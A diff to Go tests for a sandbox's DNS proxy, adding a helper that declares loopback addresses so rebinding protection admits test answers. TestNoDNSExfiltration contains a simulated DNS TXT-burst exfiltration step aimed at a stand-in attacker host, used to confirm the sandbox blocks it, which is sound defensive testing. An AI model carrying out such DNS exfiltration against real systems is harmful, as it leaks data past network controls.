@@ -84,6 +84,19 @@ func listenAt(t *testing.T, addr string, port int) *tcpListener {
 	return &tcpListener{ln: ln, port: ln.Addr().(*net.TCPAddr).Port}
 }
 
+// The test's services listen on the host's loopback, which the session's
+// DNS proxy withholds from an answer unless the manifest declares the
+// address (DNS rebinding, TestDNSRebindingIsRefused): the tests that
+// answer one declare it on the discard port, which nothing uses, so only
+// the answers open the services' ports.
+func declareLoop(addrs ...string) []string {
+	var out []string
+	for _, a := range addrs {
+		out = append(out, "CONSUMES NET:"+a+":9/tcp")
+	}
+	return out
+}
+
 // startResolve is what the session resolves svc.test to at its start: an
 // address with no listener, so only the proxy's answers reach one.
 func startResolve(context.Context, string) ([]netip.Addr, error) {
@@ -103,7 +116,7 @@ func TestHostNameFollowsDNS(t *testing.T) {
 	d := startTestDNS(t, "127.0.0.31", "127.0.0.32")
 	port := strconv.Itoa(a.port)
 	steps := []string{"resolve-dial:svc.test>" + port, "resolve-dial:svc.test>" + port, "tcp:127.0.0.33:" + port}
-	o := w.Run(harness.Spec{Intents: append(harness.ProbeIntents(), "CONSUMES NET:svc.test:"+port+"/tcp"),
+	o := w.Run(harness.Spec{Intents: append(append(harness.ProbeIntents(), "CONSUMES NET:svc.test:"+port+"/tcp"), declareLoop("127.0.0.31", "127.0.0.32")...),
 		Command: append([]string{harness.Probe}, steps...), Env: []string{"GODEBUG=netdns=go"},
 		DNSUpstreams: []string{d.addr}, Resolve: startResolve})
 	if o.Probe[steps[0]] != "ok" || !a.accepted() {
@@ -165,7 +178,8 @@ func TestNoDNSExfiltration(t *testing.T) {
 	d := startTestDNS(t, "127.0.0.31", "127.0.0.31")
 	port := strconv.Itoa(a.port)
 	steps := []string{"txtburst:attacker.example>50", "resolve-dial:svc.test>" + port}
-	o := w.Run(harness.Spec{Mode: policy.ModePermissive, Intents: append(harness.ProbeIntents(), "CONSUMES NET:svc.test:1/tcp"),
+	// A prefix: the learned manifest must not name 127.0.0.31 itself.
+	o := w.Run(harness.Spec{Mode: policy.ModePermissive, Intents: append(append(harness.ProbeIntents(), "CONSUMES NET:svc.test:1/tcp"), declareLoop("127.0.0.30/31")...),
 		Command: append([]string{harness.Probe}, steps...), Env: []string{"GODEBUG=netdns=go"},
 		DNSUpstreams: []string{d.addr}, Resolve: startResolve})
 	if o.Res.Killed {
@@ -201,7 +215,7 @@ func TestWildcardHostFollowsDNS(t *testing.T) {
 	d := startTestDNS(t, "127.0.0.31", "127.0.0.31")
 	port := strconv.Itoa(a.port)
 	steps := []string{"resolve-dial:api.eu.wild.test>" + port, "resolve-dial:api.eu.wild.test>" + strconv.Itoa(other.port)}
-	o := w.Run(harness.Spec{Intents: append(harness.ProbeIntents(), "CONSUMES NET:*.wild.test:"+port+"/tcp"),
+	o := w.Run(harness.Spec{Intents: append(append(harness.ProbeIntents(), "CONSUMES NET:*.wild.test:"+port+"/tcp"), declareLoop("127.0.0.31")...),
 		Command: append([]string{harness.Probe}, steps...), Env: []string{"GODEBUG=netdns=go"},
 		DNSUpstreams: []string{d.addr}, Resolve: func(context.Context, string) ([]netip.Addr, error) {
 			t.Error("a wildcard host was resolved at the session's start")
